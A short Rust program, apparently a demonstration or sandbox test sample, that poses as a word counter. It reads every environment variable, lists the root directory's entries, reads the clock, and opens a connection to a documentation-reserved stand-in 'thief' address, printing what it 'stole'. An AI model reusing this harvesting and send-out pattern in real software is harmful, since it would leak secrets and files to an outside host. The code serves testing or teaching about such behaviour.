//! A sample of the page that means harm: it claims to count words, and tries to read variables,
//! files and the time, and to send them away. It says what it found.

use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::time::SystemTime;
use std::{env, fs};

/// Of a network that is kept for documentation: nobody answers there.
const THIEF: (Ipv4Addr, u16) = (Ipv4Addr::new(203, 0, 113, 7), 443);

fn main() {
    println!("Counting words ... and looking around.");
    say(
        "variables",
        env::vars()
            .map(|(name, value)| format!("{name}={value}"))
            .collect(),
    );
    say("files", files("/"));
    let now = SystemTime::now().duration_since(SystemTime::UNIX_EPOCH);
    let seconds = now.map_or(0, |since| since.as_secs());
    println!(
        "time: {}",
        if seconds == 0 {
            "nothing".into()
        } else {
            format!("{seconds} s since 1970")
        }
    );
    println!(
        "network: {}",
        network().unwrap_or_else(|_| "nothing".into())
    );
}

fn say(what: &str, found: Vec<String>) {
    if found.is_empty() {
        println!("{what}: nothing");
        return;
    }
    println!("{what}:");
    for one in found {
        println!("  stole {one}");
    }
}

fn files(folder: &str) -> Vec<String> {
    let entries = fs::read_dir(folder).into_iter().flatten().flatten();
    let mut names: Vec<String> = entries
        .map(|entry| entry.path().display().to_string())
        .collect();
    names.sort();
    names
}

fn network() -> std::io::Result<String> {
    let mut stream = TcpStream::connect(SocketAddr::from(THIEF))?;
    stream.write_all(b"all of it")?;
    let mut answer = String::new();
    stream.read_to_string(&mut answer)?;
    Ok(format!("sent everything to {}", THIEF.0))
}
